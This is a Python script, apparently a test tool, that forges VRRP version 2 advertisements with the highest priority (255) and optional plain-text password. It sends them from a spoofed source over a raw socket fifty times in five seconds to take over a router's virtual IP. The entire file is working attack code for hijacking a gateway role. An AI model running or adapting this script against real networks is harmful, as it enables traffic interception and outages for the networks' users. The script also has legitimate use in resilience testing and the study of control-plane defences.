"""rogue_vrrp.py SOURCE TARGET ROUTER VIP [PASSWORD]: adverts of the highest priority, ten in a second for five seconds.

Like somebody's who stands on the network of control planes and may write any packet. Fails when one cannot be sent.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

_PROTOCOL = 112  # VRRP


def checksum(data: bytes) -> int:
    """Of the internet: the complement of the sum of its words."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(router: int, vip: str, password: str) -> bytes:
    """VRRP version 2, priority 255; with a password of the plain kind when there is one."""
    head, tail = struct.pack("!BBBBBB", 0x21, router, 255, 1, 1 if password else 0, 1), socket.inet_aton(vip)
    tail += password.encode().ljust(8, b"\0")
    return head + struct.pack("!H", checksum(head + b"\0\0" + tail)) + tail


def main() -> None:
    source, target, router, vip, *password = sys.argv[1:]
    body = advert(int(router), vip, password[0] if password else "")
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 255, _PROTOCOL, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for _ in range(50):
            out.sendto(head + body, (target, 0))
            time.sleep(0.1)  # adverts come by the clock; what is proven is what their receiver did with them


if __name__ == "__main__":
    main()
